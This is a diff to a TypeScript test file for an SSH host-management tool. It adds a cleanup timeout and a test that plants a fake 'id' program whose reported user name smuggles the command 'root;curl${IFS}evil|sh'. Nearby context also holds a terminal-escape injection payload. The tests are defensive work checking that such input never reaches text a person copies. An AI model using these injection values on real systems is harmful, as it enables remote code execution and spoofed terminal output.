@@ -1,7 +1,13 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import type { TestContext } from 'vitest';
 import { NearMachine, farPath } from '../../fixtures/hosts/near-machine.ts';
 import { SSHD, SshServer } from '../../fixtures/hosts/ssh-server.ts';
+
+/** On a busy machine the end of a supervisor there takes long. */
+const CLEAN_UP_MS = 60_000;
 
 /** Runs instead of our script; it has read the random word, so it can say anything in our name. */
 const READ_NONCE = `#!/bin/sh
@@ -18,7 +24,7 @@ async function against(
   onTestFinished(async () => {
     await near.dispose({ stopsFar: false });
     await server.stop();
-  });
+  }, CLEAN_UP_MS);
   return near.run('profiles', '--host', 'far');
 }
 
@@ -46,6 +52,26 @@ say "root $(printf '/home/\\033]0;owned\\007\\033[2J')"; say "end 1"; sleep 1\n`
     expect(stderr).toContain('cannot be written to');
     // eslint-disable-next-line no-control-regex -- what must not be there
     expect(stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
+  });
+
+  test('that gives its user a name with a command puts none into what a person is to copy', async ({
+    onTestFinished,
+  }) => {
+    const real = (text: string): string => `#!/bin/sh\n[ "$1" = -un ] && echo '${text}' || echo 0\n`;
+    const folder = mkdtempSync(join(tmpdir(), 'holdfast-hostile-'));
+    onTestFinished(() => rmSync(folder, { recursive: true }));
+    writeFileSync(join(folder, 'id'), real('root;curl${IFS}evil|sh'), { mode: 0o755 });
+    const { PATH = '', ...rest } = farPath();
+    const server = await SshServer.start(SSHD ?? '', { environment: { ...rest, PATH: `${folder}:${PATH}` } });
+    const near = new NearMachine(server);
+    onTestFinished(async () => {
+      await near.dispose();
+      await server.stop();
+    }, CLEAN_UP_MS);
+    const { code, stderr } = await near.run('host', 'add', 'named', server.destination);
+    expect(code).toBe(1);
+    expect(stderr).toContain('has no Docker that this user can use');
+    expect(stderr).not.toContain('curl');
   });
 
   test.for([
